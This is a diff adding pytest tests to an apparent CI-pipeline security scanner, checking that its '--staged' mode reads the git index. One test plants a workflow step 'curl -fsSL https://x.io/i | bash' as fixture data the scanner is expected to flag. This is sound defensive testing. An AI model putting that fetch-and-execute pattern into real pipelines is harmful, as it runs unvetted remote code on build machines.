@@ -102,3 +102,29 @@ def test_policy_can_raise_unpinned_action_severity(
     code, report = _check(root, "--policy", str(policy), capsys=capsys)
     assert code == 1
     assert [f["severity"] for f in report["findings"]] == ["high"]
+
+
+def test_staged_reads_the_index_not_the_work_tree(
+    git_repo: git.Repo, capsys: pytest.CaptureFixture[str]
+) -> None:
+    root = Path(git_repo.working_tree_dir or ".")
+    commit_files(git_repo, {".github/workflows/ci.yml": OLD.replace(
+        "      - run: curl -k https://internal.example/tool -o tool\n", "")}, "ci")
+    staged = OLD.replace("curl -k", "curl -fsSL https://x.io/i | bash; curl")
+    (root / ".github/workflows/ci.yml").write_text(staged)
+    git_repo.index.add([".github/workflows/ci.yml"])
+    # the work tree goes back to a harmless version after staging
+    (root / ".github/workflows/ci.yml").write_text(OLD.replace("curl -k", "echo"))
+    code = main(["check", str(root), "--only", "pipeline", "--staged", "--format", "json"])
+    report = json.loads(capsys.readouterr().out)
+    assert code == 0
+    assert {f["rule"] for f in report["findings"]} == {"pipeline/remote-script"}
+    code = main(["collect", "pipeline", str(root)])
+    tree = json.loads(capsys.readouterr().out)
+    assert tree["files"][0]["sha256"] == hashlib.sha256(
+        (root / ".github/workflows/ci.yml").read_bytes()).hexdigest()
+
+
+def test_staged_outside_a_repository_is_a_usage_error(tmp_path: Path) -> None:
+    (tmp_path / "Jenkinsfile").write_text("node { sh 'make' }\n")
+    assert main(["check", str(tmp_path), "--only", "pipeline", "--staged"]) == 2
